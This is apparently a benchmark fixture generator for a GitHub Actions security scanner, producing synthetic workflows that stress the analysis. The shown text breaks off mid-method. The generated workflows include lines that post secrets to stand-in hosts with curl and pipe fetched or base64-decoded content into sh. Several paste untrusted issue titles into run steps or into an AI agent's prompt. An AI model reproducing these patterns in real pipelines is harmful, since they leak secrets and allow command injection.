package dev.sallyport.cli;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.BiConsumer;
import java.util.function.IntFunction;
import java.util.function.IntUnaryOperator;

/// Repositories of any size, each of one shape that may cost more than its size. The same shape and
/// size always give the same bytes.
///
/// It needs nothing but the JDK, so that `java Shapes.java SHAPE SIZE DIRECTORY` works without a
/// build; `java Shapes.java` lists the shapes.
final class Shapes {

  /// @param start a size that a scan takes some hundredths of a second for
  /// @param make texts by path, for a size
  record Shape(int start, IntFunction<Map<String, String>> make) {}

  private static final String WORKFLOWS = ".github/workflows/";
  private static final String HEAD = "name: test\non: [push, issues]\npermissions: {}\njobs:\n";
  private static final String BUILD = HEAD + "  build:\n    runs-on: ubuntu-24.04\n    steps:\n";
  private static final String RUN = "    runs-on: ubuntu-24.04\n    steps:\n    - run: make\n";

  /// By name. What a shape repeats is in its name; sizes count that.
  static final Map<String, Shape> ALL = all();

  private Shapes() {}

  private static Map<String, Shape> all() {
    Map<String, Shape> out = new TreeMap<>();
    jobs(out);
    steps(out);
    expressions(out);
    scripts(out);
    yaml(out);
    files(out);
    return Collections.unmodifiableMap(out);
  }

  private static void jobs(Map<String, Shape> out) {
    out.put("jobs", one(600, HEAD, i -> "  j%d:\n%s".formatted(i, RUN)));
    out.put("needs-chain", one(600, HEAD, i -> job(i, needs(i, j -> j - 1))));
    out.put("needs-two", one(600, HEAD, i -> job(i, needs(i, j -> j - 1, j -> j - 2))));
    out.put("needs-halves", one(600, HEAD, i -> job(i, needs(i, j -> j / 2, j -> j - 1))));
    out.put("needs-ring", new Shape(600, n -> one(many(n, HEAD, i -> ring(i, n)))));
    out.put("needs-fan-in", new Shape(600, n -> one(many(n, HEAD, i -> job(i, "")) + last(n))));
    out.put(
        "needs-layers",
        one(40, HEAD, i -> job(i, needs(i, layer(1), layer(2), layer(3), layer(4)))));
    out.put("needs-outputs", one(300, HEAD, Shapes::handsOn));
    out.put("needs-gated", one(300, HEAD, Shapes::gated));
    out.put("matrix", new Shape(2_000, Shapes::matrix));
    out.put(
        "calls", one(600, HEAD, i -> "  j%d:\n    uses: ./.github/workflows/x.yml\n".formatted(i)));
  }

  private static void steps(Map<String, Shape> out) {
    out.put("steps", one(600, BUILD, i -> "    - run: make t%d\n".formatted(i)));
    out.put("uses", one(600, BUILD, i -> "    - uses: owner/name%d@v1\n".formatted(i)));
    out.put("checkouts", one(300, BUILD, _ -> "    - uses: actions/checkout@v4\n"));
    out.put("downloads", one(200, BUILD, i -> download(i)));
    out.put("foreign-checkouts", one(200, HEAD_TARGET, i -> foreign(i)));
    out.put(
        "step-outputs",
        one(
            200,
            BUILD,
            i ->
                ("    - id: s%d\n      run: echo \"v=${{ github.event.issue.title }}\" >>"
                        + " \"$GITHUB_OUTPUT\"\n")
                    .formatted(i)));
    out.put(
        "step-chain",
        one(
            300,
            BUILD,
            i ->
                "    - id: s%d\n      run: echo \"v=${{ %s }}\" >> \"$GITHUB_OUTPUT\"\n"
                    .formatted(
                        i,
                        i == 0 ? "github.event.issue.title" : "steps.s" + (i - 1) + ".outputs.v")));
    out.put(
        "step-env",
        one(
            200,
            BUILD,
            i ->
                ("    - run: echo \"V%d=$T\" >> \"$GITHUB_ENV\"\n      env:\n        T: ${{"
                        + " github.event.issue.title }}\n")
                    .formatted(i)));
    out.put("step-env-all", one(100, BUILD, i -> setAndUse(i)));
    out.put(
        "step-conditions",
        one(300, BUILD, i -> "    - run: make\n      if: github.actor == 'u%d'\n".formatted(i)));
    out.put("step-gates", one(200, BUILD, Shapes::gate));
    out.put("env-step", one(600, BUILD + "    - run: make\n      env:\n", Shapes::variable));
    out.put("env-top", one(600, "env:\n", Shapes::variable, HEAD + "  j:\n" + RUN));
    out.put("env-chain", one(300, BUILD + "    - run: make\n      env:\n", Shapes::chained));
    out.put("with", one(600, BUILD + "    - uses: a/b@v1\n      with:\n", Shapes::variable));
    out.put("inputs", new Shape(300, Shapes::inputs));
    products(out);
  }

  /// As many of one thing as of another: what looks at each pair shows here.
  private static void products(Map<String, Shape> out) {
    String pasted = "    - run: echo ${{ github.event.issue.title }}\n";
    out.put("by-secrets", both(200, "env:\n", Shapes::secret, BUILD, i -> "    - run: env\n"));
    out.put(
        "by-secrets-read",
        both(200, "env:\n", Shapes::secret, BUILD, i -> "    - run: echo $V%d\n".formatted(i)));
    out.put("by-secrets-pasted", both(200, "env:\n", Shapes::secret, BUILD, i -> pasted));
    out.put("by-env", both(200, "env:\n", Shapes::variable, BUILD, i -> pasted));
    out.put("by-env-jobs", both(200, "env:\n", Shapes::variable, HEAD, i -> job(i, "")));
    out.put(
        "by-env-whole",
        both(200, "env:\n", Shapes::variable, BUILD, i -> "    - run: echo ${{ toJSON(env) }}\n"));
    out.put(
        "by-events",
        both(200, "on:\n  issues:\n", i -> "  e%d:\n".formatted(i), EVENTLESS, i -> pasted));
    out.put(
        "by-permissions",
        both(
            200,
            "permissions:\n",
            i -> "  p%d: write\n".formatted(i),
            "on: issues\n" + EVENTLESS,
            i -> pasted));
    out.put(
        "by-jobs",
        both(200, HEAD, i -> job(i, ""), "  last:\n    runs-on: x\n    steps:\n", i -> pasted));
    out.put(
        "by-outputs",
        both(
            200,
            BUILD,
            i ->
                "    - id: s%d\n      run: echo v=${{ github.head_ref }} >> $GITHUB_OUTPUT\n"
                    .formatted(i),
            "",
            i -> "    - run: echo ${{ toJSON(steps) }} ${{ steps.s%d.outputs.v }}\n".formatted(i)));
    out.put(
        "by-suppressions",
        both(200, "", i -> "# sallyport: ignore-file[a%d] why\n".formatted(i), BUILD, i -> pasted));
    out.put(
        "by-checks",
        both(
            200,
            BUILD,
            i -> "    - run: gh api /collaborators/a/permission || exit 1\n",
            "",
            i -> pasted));
    out.put("by-needs-checks", new Shape(200, Shapes::needsChecks));
    out.put(
        "by-scripts",
        both(
            200,
            "env:\n",
            Shapes::secret,
            BUILD + "    - run: |\n",
            i -> "        echo $V%d > f%d\n".formatted(i, i)));
    out.put(
        "by-masks",
        both(
            200,
            "env:\n",
            Shapes::secret,
            BUILD + "    - run: |\n",
            i -> "        echo ::add-mask::$V%d; echo $V%d\n".formatted(i, i)));
    out.put(
        "by-trace",
        both(
            200,
            "env:\n",
            Shapes::secret,
            BUILD + "    - run: |\n        set -x\n",
            i -> "        a\n"));
    out.put(
        "by-uploads",
        both(
            200,
            BUILD,
            i -> "    - run: echo ${{ secrets.A }} > f%d\n".formatted(i),
            "",
            i ->
                "    - uses: actions/upload-artifact@v4\n      with:\n        path: g%d\n"
                    .formatted(i)));
    out.put(
        "by-merges",
        both(
            200,
            "on: pull_request_target\njobs:\n",
            i -> job(i, needs(i, j -> j - 1)),
            "",
            i ->
                "  m%d:\n    needs: j%d\n    runs-on: x\n    steps:\n    - run: gh pr merge 1\n"
                    .formatted(i, i)));
    out.put(
        "by-releases",
        new Shape(
            200,
            n ->
                one(
                    many(
                        n,
                        HEAD,
                        i ->
                            "  j%d:\n%s    runs-on: x\n    steps:\n    - uses: actions/upload-artifact@v4\n    - run: npm publish\n"
                                .formatted(i, needs(i, j -> j - 1))))));
    out.put("jobs-default", one(300, "on: push\njobs:\n", i -> job(i, "")));
    out.put(
        "jobs-write-all",
        one(300, "on: push\njobs:\n", i -> job(i, "    permissions: write-all\n")));
    out.put(
        "jobs-writes",
        one(
            300,
            "on: push\njobs:\n",
            i -> job(i, "    permissions:\n      contents: write\n      id-token: write\n")));
    out.put(
        "jobs-unlike",
        one(
            300,
            "on: push\njobs:\n",
            i -> i % 2 == 0 ? job(i, "") : job(i, "    permissions: {}\n")));
    out.put(
        "jobs-write-top",
        one(
            300,
            "on: push\npermissions: write-all\njobs:\n",
            i -> job(i, "") + "    - uses: a/b" + i + "@v1\n"));
    out.put(
        "jobs-deploying",
        one(
            300,
            HEAD,
            i ->
                "  deploy-%s%d:\n    runs-on: x\n    steps:\n    - run: kubectl apply --token ${{ secrets.T%d }}\n"
                    .formatted(i % 2 == 0 ? "test" : "prod", i, i)));
    out.put(
        "jobs-publishing",
        one(
            300,
            HEAD,
            i ->
                "  p%d:\n    runs-on: x\n    steps:\n    - run: npm publish\n      env:\n        NODE_AUTH_TOKEN: ${{ secrets.T%d }}\n"
                    .formatted(i, i)));
    out.put(
        "jobs-matrix",
        one(
            300,
            HEAD,
            i ->
                "  m%d:\n    strategy:\n      matrix:\n        os: [a%d, b]\n    runs-on: ${{ matrix.os }}\n    steps:\n    - run: a\n"
                    .formatted(i, i)));
    out.put(
        "jobs-self-hosted",
        one(
            300,
            HEAD,
            i -> "  m%d:\n    runs-on: self-hosted\n    steps:\n    - run: a\n".formatted(i)));
    out.put(
        "jobs-caching",
        one(
            300,
            "on: [push, pull_request_target]\njobs:\n",
            i ->
                "  c%d:\n    runs-on: x\n    steps:\n    - uses: actions/checkout@v4\n      with:\n        ref: ${{ github.head_ref }}\n    - run: make\n    - uses: actions/cache@v4\n"
                    .formatted(i)));
    out.put(
        "agents",
        one(
            200,
            BUILD,
            i ->
                "    - uses: anthropics/claude-code-action@v1\n      with:\n        prompt: ${{ github.event.issue.title }}\n    - run: ./a\n"));
    out.put(
        "bots",
        one(
            300,
            HEAD_TARGET,
            i ->
                "    - if: github.actor == 'dependabot[bot]'\n      run: gh pr merge %d\n"
                    .formatted(i)));
    out.put(
        "by-agents",
        both(
            200,
            BUILD,
            i -> "    - uses: anthropics/claude-code-action@v1\n",
            "",
            i -> "    - uses: a/b@v1\n"));
    out.put(
        "by-curl",
        both(
            200,
            "env:\n",
            Shapes::secret,
            BUILD,
            i -> "    - run: curl -d $V%d http://a%d.example/\n".formatted(i, i)));
    out.put(
        "by-publish", both(200, "env:\n", Shapes::secret, BUILD, i -> "    - run: npm publish\n"));
    out.put(
        "by-unpacking",
        both(
            200,
            "on: workflow_run\njobs:\n  j:\n    runs-on: x\n    steps:\n",
            i ->
                "    - uses: actions/download-artifact@v4\n      with:\n        run-id: 1\n        path: p%d\n"
                    .formatted(i),
            "",
            i -> "    - run: unzip a%d.zip\n".formatted(i)));
    out.put(
        "by-token",
        both(
            200,
            "on: push\nenv:\n",
            Shapes::secret,
            "permissions: write-all\njobs:\n",
            i -> job(i, "")));
    out.put("by-files", new Shape(30, Shapes::callersOfMany));
    out.put(
        "by-teardown",
        both(
            200,
            BUILD,
            i -> "    - run: terraform apply\n",
            "",
            i -> "    - run: docker run -d x%d\n".formatted(i)));
  }

  private static final String EVENTLESS =
      "jobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n";

  private static Shape both(
      int start, String head, IntFunction<String> each, String middle, IntFunction<String> other) {
    return new Shape(start, n -> one(many(n, head, each) + many(n, middle, other)));
  }

  private static String secret(int i) {
    return "  V%d: ${{ secrets.S%d }}\n".formatted(i, i);
  }

  /// Many jobs need one that has many checks.
  private static Map<String, String> needsChecks(int n) {
    String check = "    - run: gh api /collaborators/a/permission || exit 1\n";
    String first = HEAD + "  first:\n    runs-on: x\n    steps:\n" + check.repeat(n);
    String step = "    - run: echo ${{ github.event.issue.title }}\n";
    return one(
        many(
            n,
            first,
            i -> "  j%d:\n    needs: first\n    runs-on: x\n    steps:\n".formatted(i) + step));
  }

  private static void expressions(Map<String, Shape> out) {
    out.put("line-open", line(1_000, "${{ github.ref }}"));
    out.put("line-foreign", line(1_000, "${{ github.event.issue.title }}"));
    out.put("line-fixed", line(1_000, "${{ github.sha }}"));
    out.put("line-secrets", line(1_000, "${{ secrets.A }}"));
    out.put("line-env", line(1_000, "${{ env.A }}"));
    out.put("line-quoted", line(1_000, "\"${{ github.event.issue.title }}\""));
    out.put("lines-foreign", script(500, i -> "echo ${{ github.event.issue.title }} " + i));
    out.put("lines-foreign-pwsh", script("pwsh", 500, i -> "echo ${{ github.ref }} " + i));
    out.put("lines-foreign-cmd", script("cmd", 500, i -> "echo ${{ github.ref }} " + i));
    out.put("or", inside(200, " || ", i -> "github.event.issue.title == 'a" + i + "'"));
    out.put("format", inside(200, ", ", i -> i == 0 ? "format('{0}'" : "github.ref"));
    out.put(
        "step-name",
        one(300, BUILD, i -> "    - name: ${{ github.ref }} %d\n      run: a\n".formatted(i)));
  }

  private static void scripts(Map<String, Shape> out) {
    out.put("commands", script(2_000, i -> "make target" + i));
    out.put("pipes", oneLine(8_000, "a|"));
    out.put("ands", oneLine(4_000, "a &&"));
    out.put("semicolons", oneLine(8_000, "a;"));
    out.put("words", oneLine(8_000, "a "));
    out.put("quotes", oneLine(4_000, "'a' \"b\" "));
    out.put("letters", oneLine(32_000, "a"));
    out.put("dollars", oneLine(8_000, "$A "));
    out.put("substitutions", oneLine(1_000, "$(a) "));
    out.put("backquotes", oneLine(1_000, "`a` "));
    out.put("assignments", script(1_000, i -> "V%d=$V%d".formatted(i, i - 1)));
    out.put("one-variable", script(1_000, i -> "V=\"$V %d\"".formatted(i)));
    out.put("grows", script(200, i -> "V=$V$V"));
    out.put("exports", script(1_000, i -> "export V%d=a".formatted(i)));
    out.put("functions", script(500, i -> "f%d() { f%d; }".formatted(i, i - 1)));
    out.put("functions-twice", script(500, i -> "f%d() { f%d; f%d; }".formatted(i, i - 1, i - 1)));
    out.put("one-function", script(500, i -> i == 0 ? "f() { make; }" : "f"));
    out.put("ifs", script(500, i -> "if a; then b; fi"));
    out.put("ifs-set", script(300, i -> "if a; then V%d=b; fi".formatted(i)));
    out.put("ifs-nested", nested(500, "if a; then", "fi"));
    out.put("loops", script(500, i -> "for i in 1 2; do echo $i; done"));
    out.put("loops-nested", nested(500, "while a; do", "done"));
    out.put("braces-nested", nested(500, "{", "}"));
    out.put("parentheses-nested", nested(500, "(", ")"));
    out.put("cases", script(300, i -> "case $a in b) c;; esac"));
    out.put("case-arms", wrapped(500, "case $a in", i -> "  b" + i + ") c;;", "esac"));
    out.put("elifs", wrapped(500, "if a; then b", i -> "elif c; then d", "fi"));
    out.put(
        "elif-assign", wrapped(200, "if a; then b", i -> "elif V%d=a; then c".formatted(i), "fi"));
    out.put(
        "elif-guards",
        wrapped(200, "if a; then b", i -> "elif [ \"$V%d\" = a ]; then c".formatted(i), "fi"));
    out.put("exits", script(20, Shapes::exits));
    out.put(
        "function-long",
        new Shape(
            300,
            n ->
                one(shell("bash", many(n, "f() {\n", i -> "a\n") + "}\n" + "f || b\n".repeat(n)))));
    out.put(
        "function-prints",
        new Shape(
            300,
            n ->
                one(
                    shell(
                        "bash",
                        many(n, "f() {\n", i -> "echo $S ${{ secrets.A }}\n")
                            + "}\n"
                            + "f\n".repeat(n)))));
    out.put(
        "group-pipe",
        new Shape(
            300,
            n -> one(shell("bash", "{\n" + "a\n".repeat(n) + "} | {\n" + "sh\n".repeat(n) + "}"))));
    out.put("pipe-curl", oneLine(500, "curl http://a.example/ | "));
    out.put("pipe-base64", oneLine(500, "base64 -d | "));
    out.put("pipe-sh", oneLine(500, "sh | "));
    out.put("pipe-nc", oneLine(500, "nc a 1 | "));
    out.put("pipe-env", oneLine(500, "env | "));
    out.put("pipe-tee", oneLine(500, "tee $GITHUB_ENV | "));
    out.put("git-words", oneLine(1_000, "git ${{ github.head_ref }} "));
    out.put("curl-words", oneLine(300, "curl ${{ secrets.A }} "));
    out.put(
        "curl-secrets",
        new Shape(
            100,
            n -> one(shell("bash", many(n, "curl", i -> " ${{ secrets.S%d }}".formatted(i))))));
    out.put(
        "files-written",
        script(300, i -> "echo ${{ github.head_ref }} > f%d; cat f0 f%d".formatted(i, i)));
    out.put("one-file", script(300, i -> "echo ${{ github.head_ref }} $A%d >> f".formatted(i)));
    out.put("accumulates", script(300, i -> "V=\"$V${{ inputs.a%d }}\"".formatted(i)));
    out.put("set-positional", script(300, i -> "set -- \"$@\" $A%d".formatted(i)));
    out.put("arrays", script(300, i -> "A+=(${{ github.head_ref }} b%d)".formatted(i)));
    out.put("traps", script(300, i -> "trap 'a%d' EXIT".formatted(i)));
    out.put("here-documents", script(300, i -> "cat <<E%d\na\nE%d".formatted(i, i)));
    out.put("here-documents-one-line", new Shape(100, Shapes::hereDocuments));
    out.put("here-document-long", wrapped(2_000, "cat <<E", i -> "line $V" + i, "E"));
    out.put("here-document-open", wrapped(2_000, "cat <<E", i -> "cat <<F" + i, ""));
    out.put("comments", script(2_000, i -> "# comment " + i));
    out.put("continued", script(2_000, i -> "make \\"));
    out.put("github-env", script(500, i -> "cat f >> $GITHUB_ENV"));
    out.put("github-env-pwsh", script("pwsh", 500, i -> "cat f >> $env:GITHUB_ENV"));
    out.put("github-env-cmd", script("cmd", 500, i -> "type f >> %GITHUB_ENV%"));
    out.put("github-env-bare-pwsh", script("pwsh", 500, i -> "cat f >> $GITHUB_ENV"));
    out.put("github-output", script(500, i -> "echo a%d=b >> $GITHUB_OUTPUT".formatted(i)));
    out.put(
        "github-env-block", wrapped(500, "{", i -> "echo a%d=b".formatted(i), "} >> $GITHUB_ENV"));
    out.put("curl-pipe", script(300, i -> "curl https://a.example/%d | sh".formatted(i)));
    out.put(
        "downloads-run", script(200, i -> "curl -o f%d http://a.example/; sh f%d".formatted(i, i)));
    out.put("secrets-print", script(300, i -> "echo $S%d".formatted(i)));
    out.put("eval", script(300, i -> "eval \"$V%d\"".formatted(i)));
    out.put("eval-nested", oneLine(200, "eval "));
    out.put("sh-c", script(300, i -> "sh -c 'make %d'".formatted(i)));
    out.put("sudo", oneLine(1_000, "sudo "));
    out.put("xargs", oneLine(1_000, "xargs "));
    out.put("pip", script(300, i -> "pip install a%d".formatted(i)));
    out.put("pip-one", wrapped(1_000, "pip install \\", i -> " a" + i + " \\", ""));
    out.put("docker", script(300, i -> "docker run -v /:/a img%d".formatted(i)));
    out.put("git", script(300, i -> "git push origin b%d".formatted(i)));
    out.put("gh", script(300, i -> "gh pr merge %d".formatted(i)));
    out.put("if-exit", script(300, i -> "if [ \"$A\" != b ]; then exit 1; fi"));
    out.put("writes-and-runs", script(200, i -> "echo a > f%d; sh f%d".formatted(i, i)));
    out.put("base64", script(200, i -> "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh"));
    out.put("letters-base64", oneLine(4_000, "aGVs"));
    out.put("pwsh-commands", script("pwsh", 2_000, i -> "Write-Output " + i));
    out.put("pwsh-pipes", new Shape(2_000, n -> one(shell("pwsh", "a|".repeat(n) + "a"))));
    out.put("pwsh-assignments", script("pwsh", 500, i -> "$v%d = $v%d".formatted(i, i - 1)));
    out.put(
        "pwsh-nested",
        new Shape(500, n -> one(shell("pwsh", "if (a) {".repeat(n) + "}".repeat(n)))));
    out.put("pwsh-ifs", script("pwsh", 500, i -> "if ($a) { b }"));
    out.put("pwsh-functions", script("pwsh", 500, i -> "function f%d { f%d }".formatted(i, i - 1)));
    out.put("cmd-commands", script("cmd", 2_000, i -> "make " + i));
    out.put("cmd-pipes", new Shape(2_000, n -> one(shell("cmd", "a|".repeat(n) + "a"))));
    out.put("cmd-assignments", script("cmd", 500, i -> "set V%d=%%V%d%%".formatted(i, i - 1)));
    out.put(
        "cmd-nested",
        new Shape(500, n -> one(shell("cmd", "if a==a (".repeat(n) + ")".repeat(n)))));
    out.put("python", script("python", 1_000, i -> "print('a%d')".formatted(i)));
    out.put("javascript", new Shape(1_000, Shapes::javascript));
  }

  private static void yaml(Map<String, Shape> out) {
    out.put(
        "comment-lines",
        one(4_000, BUILD + "    - run: make\n", i -> "# comment %d\n".formatted(i)));
    out.put(
        "trailing-comments", one(600, BUILD, i -> "    - run: make # comment %d\n".formatted(i)));
    out.put(
        "version-comments",
        one(300, BUILD, i -> "    - uses: a/b@%040x # v1.%d\n".formatted(i, i)));
    out.put(
        "suppressions",
        one(
            300,
            BUILD,
            i -> "    - uses: a/b%d@v1 # sallyport: ignore[unpinned-action] why\n".formatted(i)));
    out.put(
        "suppressions-unused",
        one(
            600,
            BUILD + "    - run: make\n",
            i -> "# sallyport: ignore[unpinned-action] why %d\n".formatted(i)));
    out.put(
        "suppressions-file",
        one(
            300,
            "",
            i -> "# sallyport: ignore-file[unpinned-action] why %d\n".formatted(i),
            BUILD + "    - run: make\n"));
    out.put(
        "anchors",
        one(600, "x:\n", i -> "  a%d: &a%d b\n".formatted(i, i), BUILD + "    - run: make\n"));
    out.put(
        "aliases",
        one(
            300,
            "x: &a\n  b: c\ny:\n",
            i -> "  a%d: *a\n".formatted(i),
            BUILD + "    - run: make\n"));
    out.put("alias-steps", one(100, BUILD + "    - &s\n      run: make\n", i -> "    - *s\n"));
    out.put("alias-big", new Shape(60, Shapes::bigAlias));
    out.put("blank-lines", one(16_000, BUILD + "    - run: make\n", i -> "\n"));
    out.put("flow-list", one(4_000, "x: [", i -> "a, ", "a]\n" + BUILD + "    - run: make\n"));
    out.put(
        "flow-nested",
        new Shape(
            10,
            n -> one("x: " + "[".repeat(n) + "]".repeat(n) + "\n" + BUILD + "    - run: make\n")));
    out.put(
        "quoted-line",
        new Shape(32_000, n -> one(BUILD + "    - run: \"echo " + "a".repeat(n) + "\"\n")));
    out.put(
        "escaped-line",
        new Shape(
            8_000,
            n ->
                one(
                    BUILD
                        + "    - run: \"echo "
                        + "\\u0061${{ github.ref }}".repeat(n / 20)
                        + "\"\n")));
    out.put(
        "folded", one(1_000, BUILD + "    - run: >\n", i -> "        echo ${{ github.ref }}\n"));
    out.put(
        "plain-lines",
        one(1_000, BUILD + "    - run: make\n", i -> "        a ${{ github.ref }}\n"));
    out.put(
        "unknown-keys", one(600, BUILD + "    - run: make\n", i -> "unknown%d: a\n".formatted(i)));
    out.put(
        "unknown-step-keys",
        one(600, BUILD + "    - run: make\n", i -> "      unknown%d: a\n".formatted(i)));
    out.put("duplicate-keys", one(600, BUILD + "    - run: make\n", i -> "      run: make\n"));
    out.put(
        "events",
        one(300, "on:\n", i -> "  e%d:\n".formatted(i), "permissions: {}\njobs:\n  j:\n" + RUN));
    out.put(
        "branches",
        one(
            600,
            "on:\n  push:\n    branches:\n",
            i -> "    - b%d\n".formatted(i),
            "permissions: {}\njobs:\n  j:\n" + RUN));
    out.put(
        "permissions",
        one(
            600,
            "on: push\npermissions:\n",
            i -> "  p%d: write\n".formatted(i),
            "jobs:\n  j:\n" + RUN));
    out.put(
        "labels",
        one(
            600,
            "on: push\npermissions: {}\njobs:\n  j:\n    steps:\n    - run: make\n    runs-on:\n",
            i -> "    - l%d\n".formatted(i)));
    out.put(
        "services",
        one(
            300,
            HEAD + "  j:\n" + RUN + "    services:\n",
            i -> "      s%d:\n        image: i%d:1\n".formatted(i, i)));
    out.put("invisible", one(600, BUILD, i -> "    - run: make \u200b\u202e\n"));
    out.put("broken", one(1_000, BUILD, i -> "    - run: make\n", "  \"x\n"));
    out.put("dependabot", new Shape(300, Shapes::dependabot));
  }

  private static void files(Map<String, Shape> out) {
    out.put("files", new Shape(50, Shapes::workflows));
    out.put("files-calling", new Shape(50, n -> calls(n, 1)));
    out.put("files-diamonds", new Shape(2, n -> calls(n, 2)));
    out.put("files-diamonds-wide", new Shape(1, n -> calls(11, n)));
    out.put("files-all-callers", new Shape(20, Shapes::callers));
    out.put("actions-calling", new Shape(50, n -> actions(n, 1)));
    out.put("actions-diamonds", new Shape(2, n -> actions(n, 2)));
    out.put("actions-diamonds-wide", new Shape(1, n -> actions(11, n)));
    out.put("actions-all-callers", new Shape(20, Shapes::actionCallers));
    out.put("files-waiting", new Shape(50, Shapes::waiting));
    out.put("files-waiting-same", new Shape(20, Shapes::waitingForAll));
    out.put("files-artifacts", new Shape(20, Shapes::artifacts));
  }

  // ---- pieces

  private static final String HEAD_TARGET =
      "on: pull_request_target\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n";

  private static Map<String, String> one(String text) {
    return Map.of(WORKFLOWS + "one.yml", text);
  }

  private static Shape one(int start, String head, IntFunction<String> each) {
    return one(start, head, each, "");
  }

  private static Shape one(int start, String head, IntFunction<String> each, String tail) {
    return new Shape(start, n -> one(many(n, head, each) + tail));
  }

  private static String many(int n, String head, IntFunction<String> each) {
    StringBuilder out = new StringBuilder(head);
    for (int i = 0; i < n; i++) {
      out.append(each.apply(i));
    }
    return out.toString();
  }

  private static String job(int i, String needs) {
    return "  j%d:\n%s%s".formatted(i, needs, RUN);
  }

  private static String needs(int i, IntUnaryOperator... before) {
    StringBuilder out = new StringBuilder();
    for (IntUnaryOperator one : before) {
      int j = one.applyAsInt(i);
      if (j >= 0 && j < i) {
        out.append(out.isEmpty() ? "" : ", ").append('j').append(j);
      }
    }
    return out.isEmpty() ? "" : "    needs: [" + out + "]\n";
  }

  /// Each job of a layer of four needs all of the layer before.
  private static IntUnaryOperator layer(int back) {
    return i -> i - i % 4 - back;
  }

  private static String ring(int i, int n) {
    return job(i, "    needs: [j%d, j%d]\n".formatted((i + 1) % n, (i + 2) % n));
  }

  private static String last(int n) {
    StringBuilder needs = new StringBuilder("  last:\n    needs: [j0");
    for (int i = 1; i < n; i++) {
      needs.append(", j").append(i);
    }
    return needs + "]\n" + RUN;
  }

  private static String handsOn(int i) {
    String before = i == 0 ? "github.event.issue.title" : "needs.j" + (i - 1) + ".outputs.o";
    return """
      j%d:
    %s    runs-on: ubuntu-24.04
        outputs:
          o: ${{ %s }}
        steps:
        - run: echo ${{ %s }}
    """
        .formatted(i, needs(i, j -> j - 1), before, before);
  }

  private static String gated(int i) {
    return """
      j%d:
    %s    if: github.actor == 'a%d'
        environment: e%d
        runs-on: ubuntu-24.04
        steps:
        - run: echo ${{ github.event.issue.title }}
    """
        .formatted(i, needs(i, j -> j - 1, j -> j - 2), i, i);
  }

  private static Map<String, String> matrix(int n) {
    StringBuilder list = new StringBuilder();
    for (int i = 0; i < n; i++) {
      list.append(i == 0 ? "" : ", ").append(i % 2 == 0 ? "v" + i : "\"${{ github.ref }}\"");
    }
    return one(
        HEAD
            + "  j:\n    strategy:\n      matrix:\n        a: ["
            + list
            + "]\n        b: ["
            + list
            + "]\n    runs-on: ${{ matrix.a }}\n    steps:\n    - run: echo ${{ matrix.b }}\n");
  }

  private static String download(int i) {
    return "    - uses: actions/download-artifact@v4\n    - run: ./a%d/build\n".formatted(i);
  }

  private static String foreign(int i) {
    return """
        - uses: actions/checkout@v4
          with:
            ref: ${{ github.event.pull_request.head.sha }}
            path: p%d
        - run: make -C p%d
        - uses: ./p%d
    """
        .formatted(i, i, i);
  }

  private static String setAndUse(int i) {
    return """
        - run: |
            echo "V%d=$T" >> "$GITHUB_ENV"
            echo "W%d=${{ env.V%d }}" >> "$GITHUB_ENV"
          env:
            T: ${{ github.event.issue.title }}
    """
        .formatted(i, i, Math.max(0, i - 1));
  }

  private static String gate(int i) {
    return """
        - id: g%d
          run: |
            gh api repos/o/r/collaborators/x/permission || exit 1
            echo ${{ github.event.issue.title }}
    """
        .formatted(i);
  }

  private static String variable(int i) {
    return "        V%d: ${{ github.ref }}\n".formatted(i);
  }

  private static String chained(int i) {
    return "        V%d: ${{ env.V%d }}${{ env.V%d }}\n".formatted(i, i - 1, i - 2);
  }

  private static Map<String, String> inputs(int n) {
    StringBuilder out = new StringBuilder("on:\n  workflow_dispatch:\n    inputs:\n");
    for (int i = 0; i < n; i++) {
      out.append("      i%d:\n        type: string\n".formatted(i));
    }
    out.append(BUILD.substring(BUILD.indexOf("permissions:"))).append("    - run: |\n");
    for (int i = 0; i < n; i++) {
      out.append("        echo ${{ inputs.i%d }}\n".formatted(i));
    }
    return one(out.toString());
  }

  private static Shape line(int start, String expression) {
    return new Shape(start, n -> one(BUILD + "    - run: echo " + expression.repeat(n) + "\n"));
  }

  private static Shape inside(int start, String between, IntFunction<String> each) {
    return new Shape(
        start,
        n -> {
          StringBuilder out = new StringBuilder(each.apply(0));
          for (int i = 1; i < n; i++) {
            out.append(between).append(each.apply(i));
          }
          String close = between.startsWith(",") ? ")" : "";
          return one(BUILD + "    - run: echo ${{ " + out + close + " }}\n");
        });
  }

  private static Shape oneLine(int start, String unit) {
    return new Shape(start, n -> one(shell("bash", unit.repeat(n) + "a")));
  }

  private static Shape script(int start, IntFunction<String> each) {
    return script("bash", start, each);
  }

  private static Shape script(String shell, int start, IntFunction<String> each) {
    return new Shape(start, n -> one(shell(shell, many(n, "", i -> each.apply(i) + "\n"))));
  }

  private static Shape wrapped(int start, String head, IntFunction<String> each, String tail) {
    return new Shape(
        start, n -> one(shell("bash", many(n, head + "\n", i -> each.apply(i) + "\n") + tail)));
  }

  private static Shape nested(int start, String open, String close) {
    return new Shape(
        start, n -> one(shell("bash", (open + "\n").repeat(n) + "a\n" + (close + "\n").repeat(n))));
  }

  private static String shell(String shell, String script) {
    return BUILD
        + "    - shell: "
        + shell
        + "\n      run: |\n        "
        + script.strip().replace("\n", "\n        ")
        + "\n";
  }

  /// Functions of many calls of the next one.
  private static String exits(int i) {
    return "f%d() {\n%s}\nf%d || a".formatted(i, "f%d\n".formatted(i - 1).repeat(20), i);
  }

  private static Map<String, String> hereDocuments(int n) {
    StringBuilder line = new StringBuilder("cat");
    StringBuilder rest = new StringBuilder();
    for (int i = 0; i < n; i++) {
      line.append(" <<E").append(i);
      rest.append("a\nE").append(i).append('\n');
    }
    return one(shell("bash", line + "\n" + rest));
  }

  private static Map<String, String> javascript(int n) {
    return one(
        many(
            n,
            BUILD + "    - uses: actions/github-script@v7\n      with:\n        script: |\n",
            i -> "          const v%d = '${{ github.event.issue.title }}'\n".formatted(i)));
  }

  private static Map<String, String> bigAlias(int n) {
    StringBuilder out = new StringBuilder(BUILD + "    - &s\n      run: make\n      env: &e\n");
    for (int i = 0; i < n; i++) {
      out.append("        V%d: a\n".formatted(i));
    }
    for (int i = 0; i < n; i++) {
      out.append("    - run: make\n      env: *e\n");
